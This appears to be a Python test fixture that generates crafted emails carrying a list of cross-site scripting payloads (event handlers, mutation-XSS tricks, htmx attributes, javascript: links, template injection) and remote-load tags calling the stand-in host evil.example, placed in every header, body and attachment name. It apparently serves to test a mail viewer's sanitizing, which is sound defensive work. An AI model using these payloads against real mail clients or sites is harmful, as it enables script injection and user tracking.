"""Mails that try to run something in the reader's page, or to have it ask a server of theirs: in every field.

Whatever runs calls `ran()`, which a test binds; whatever asks, asks `evil.example`.
"""

import base64
import itertools

_RUNS = [
    "<script>ran()</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=ran()>",
    "<img src=x onerror='ran()'>",
    "<svg onload=ran()>",
    "<svg><script>ran()</script></svg>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s>",
    "<body onload=ran()>",
    "<iframe src=javascript:parent.ran()></iframe>",
    "<iframe srcdoc='<script>ran()</script>'></iframe>",
    "<object data=javascript:ran()></object>",
    "<embed src=javascript:ran()>",
    "<video><source onerror=ran()></video>",
    "<details open ontoggle=ran()>x</details>",
    "<input autofocus onfocus=ran()>",
    "<select autofocus onfocus=ran()>",
    "<marquee onstart=ran()>x</marquee>",
    "<div style=animation-name:x onanimationstart=ran()>x</div><style>@keyframes x{}</style>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=ran()&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=ran()>'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=ran() src>'>",
    "<div hx-get=//evil.example/ hx-trigger=load>x</div>",
    "<div hx-get=/inbox/ hx-trigger=load hx-on::after-request=ran()>x</div>",
    "<div data-hx-on:load=ran() hx-on:load=ran()>x</div>",
    "<template><script>ran()</script></template>",
    "{{constructor.constructor('ran()')()}}",
    "${ran()}",
    "{% load static %}{{ request }}",
    "javascript:ran()",
    "<a href=javascript:ran() autofocus onfocus=ran()>x</a>",
    "<a href='jav&#x09;ascript:ran()' onmouseover=ran()>x</a>",
    "<isindex type=image src=1 onerror=ran()>",
]
_ASKS = [
    "<img src=https://evil.example/a.png>",
    "<img srcset='https://evil.example/b.png 1x'>",
    "<picture><source srcset=https://evil.example/c.png><img></picture>",
    "<table background=https://evil.example/d.png><tr><td background=//evil.example/e.png>x</table>",
    "<div style='background:url(https://evil.example/f.png)'>x</div>",
    "<style>@import url(https://evil.example/g.css);</style>",
    "<link rel=stylesheet href=https://evil.example/h.css>",
    "<link rel=dns-prefetch href=//evil.example><link rel=preload as=image href=//evil.example/i.png>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<video poster=https://evil.example/j.png src=//evil.example/k.mp4 autoplay></video>",
    "<input type=image src=https://evil.example/l.png>",
]
_AROUND = ["%s", "\"'>%s", "</textarea></title></pre>%s", "--></style></script>%s", "<p title='%s'>"]
PAYLOADS = [around.replace("%s", one) for one, around in itertools.product(_RUNS + _ASKS, _AROUND)]
IN_A_PAGE = "<img src=x onerror=ran()>"  # what runs where nobody looks: the test's own test


def words(text: str) -> str:
    """As a header carries words beyond ASCII, in pieces that fit."""
    raw = text.encode()
    pieces = [raw[at : at + 45] for at in range(0, len(raw), 45)]
    return "\r\n ".join(f"=?utf-8?b?{base64.b64encode(piece).decode()}?=" for piece in pieces)


def mail(number: int, payload: str, *names: str, **more: str) -> bytes:
    """One with this payload wherever words can stand; `names` are those of its files, else the payload too."""
    boundary = f"b{number}"
    head = {
        "From": f"{words(payload)} <mallory-{number}@evil.example>",
        "To": "bonjour@shop.example",
        "Cc": f"{words(payload)} <copy-{number}@evil.example>",
        "Reply-To": f"{words(payload)} <mallory-{number}@evil.example>",
        "Subject": words(payload),
        "Message-ID": f"<{number}@evil.example>",
        "X-Payload": words(payload),
        "MIME-Version": "1.0",
        "Content-Type": f"multipart/mixed; boundary={boundary}",
        **more,
    }
    parts = [
        _part("text/plain; charset=utf-8", payload),
        _part("text/html; charset=utf-8", f"<html><body>{payload}</body></html>"),
        *(_part("text/plain", "words", name) for name in names or (payload,)),
    ]
    alternative = f"--{boundary}\r\nContent-Type: multipart/alternative; boundary=a{number}\r\n\r\n" + "".join(
        f"--a{number}\r\n{part}" for part in parts[:2]
    )
    body = f"{alternative}--a{number}--\r\n" + "".join(f"--{boundary}\r\n{part}" for part in parts[2:])
    lines = "".join(f"{name}: {value}\r\n" for name, value in head.items())
    return f"{lines}\r\n{body}--{boundary}--\r\n".encode()


def _part(kind: str, content: str, name: str = "") -> str:
    file = f'Content-Disposition: attachment; filename="{words(name)}"\r\n' if name else ""
    encoded = base64.encodebytes(content.encode()).decode().replace("\n", "\r\n")
    return f"Content-Type: {kind}\r\n{file}Content-Transfer-Encoding: base64\r\n\r\n{encoded}"
